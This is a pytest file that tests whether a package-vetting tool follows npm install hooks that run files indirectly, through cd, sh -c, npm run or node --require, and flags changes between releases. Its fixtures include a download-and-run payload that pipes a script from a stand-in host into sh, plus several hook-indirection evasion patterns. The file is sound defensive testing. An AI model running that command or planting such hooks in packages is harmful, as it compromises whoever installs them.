"""Attacks on how vet reads npm's install scripts: the file a hook runs named indirectly.

npm runs a ``postinstall`` through a shell, so the command may change folder first
(``cd test && node setup.js``), hand its work to a shell of its own (``sh -c 'node
test/setup.js'``), run another script of the manifest (``npm run setup``, which also runs
``presetup`` and ``postsetup``) or load the file through an option (``node
--require=./test/setup.js``). vet resolved each word of the hook's command from the package
root as it stood, so it never saw the file run; one in ``test/`` was read as a fixture nobody
loads (information only). The release before it had the same hook running a harmless
``test/setup.js``; the next one made that file fetch and run a shell script, and vetted
against the first it passed. Likewise a hook ``npm run setup`` whose named script changed
from ``echo ok`` to ``curl … | sh``: only the hook's own text was compared, and it had not
changed. Each is now followed (folders entered, shells' commands, the manifest's scripts
npm runs, an option's value), and the scripts a hook runs are compared and read as the hook
is.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from vet_attack_kit import npm_tarball

from mcpward.model import Severity
from mcpward.vet import VetOptions, run_vet

BASE = {"name": "relay-mcp", "version": "1.0.0", "main": "index.js"}
INDEX = b"exports.ok = 1;\n"
HARMLESS = b'console.log("setup done");\n'
PAYLOAD = b'require("child_process").execSync("curl -s https://get.exfil-relay.net/x | sh");\n'


def _compare(tmp_path: Path, scripts: dict[str, str], before: bytes, after: bytes) -> list[tuple[str, str]]:
    manifest = {**BASE, "scripts": scripts}
    old = npm_tarball(tmp_path / "a.tgz", manifest, {"index.js": INDEX, "test/setup.js": before})
    new = npm_tarball(
        tmp_path / "b.tgz", {**manifest, "version": "1.0.1"}, {"index.js": INDEX, "test/setup.js": after}
    )
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "cache"))
    return [(f.rule, f.severity.value) for f in report.findings if f.severity is not Severity.INFO]


@pytest.mark.parametrize(
    "scripts",
    [
        {"postinstall": "cd test && node setup.js"},
        {"postinstall": "sh -c 'node test/setup.js'"},
        {"install": 'bash -c "cd test; node ./setup"'},
        {"postinstall": "npm run setup", "setup": "node test/setup.js"},
        {"postinstall": "npm run-script boot", "preboot": "node test/setup.js", "boot": "echo ok"},
        {"preinstall": "yarn run setup", "setup": "cd test && node setup.js"},
        {"postinstall": "node --require=./test/setup.js -e 0"},
        {"postinstall": "ksh -c 'cd test && node setup.js'"},
        {"postinstall": "/bin/ash -c 'node test/setup.js'"},
        {"install": "fish -c 'node test/setup.js'"},
    ],
    ids=[
        "cd",
        "sh -c",
        "bash -c with cd",
        "npm run",
        "npm run-script's pre script",
        "yarn run",
        "--require=",
        "ksh -c",
        "ash -c",
        "fish -c",
    ],
)
def test_the_file_an_install_hook_runs_indirectly_is_analysed_as_run_at_install(
    tmp_path: Path, scripts: dict[str, str]
) -> None:
    findings = _compare(tmp_path, scripts, HARMLESS, PAYLOAD)
    assert ("download-and-run", "critical") in findings, findings


def test_a_script_an_install_hook_runs_is_compared_and_read_as_the_hook_is(tmp_path: Path) -> None:
    findings = _compare(
        tmp_path,
        {"postinstall": "npm run setup", "setup": "echo ok"},
        HARMLESS,
        HARMLESS,
    )
    assert findings == []
    manifest = {**BASE, "scripts": {"postinstall": "npm run setup", "setup": "echo ok"}}
    old = npm_tarball(tmp_path / "a.tgz", manifest, {"index.js": INDEX})
    changed = {
        **manifest,
        "version": "1.0.1",
        "scripts": {"postinstall": "npm run setup", "setup": "curl -s https://get.exfil-relay.net/x | sh"},
    }
    new = npm_tarball(tmp_path / "b.tgz", changed, {"index.js": INDEX})
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "cache"))
    rules = {(f.rule, f.severity.value) for f in report.findings}
    assert ("new-install-script", "high") in rules, rules
    assert report.verdict == "block", rules


def test_a_harmless_release_with_the_same_indirect_hook_still_passes(tmp_path: Path) -> None:
    """The clean side: a hook that builds through another script, unchanged, raises nothing,
    and a ``prepare`` (which npm does not run when installing from the registry) is no hook."""
    scripts = {
        "postinstall": "npm run setup",
        "setup": "cd test && node setup.js",
        "prepare": "npm run build",
        "build": "tsc",
    }
    assert _compare(tmp_path, scripts, HARMLESS, HARMLESS) == []
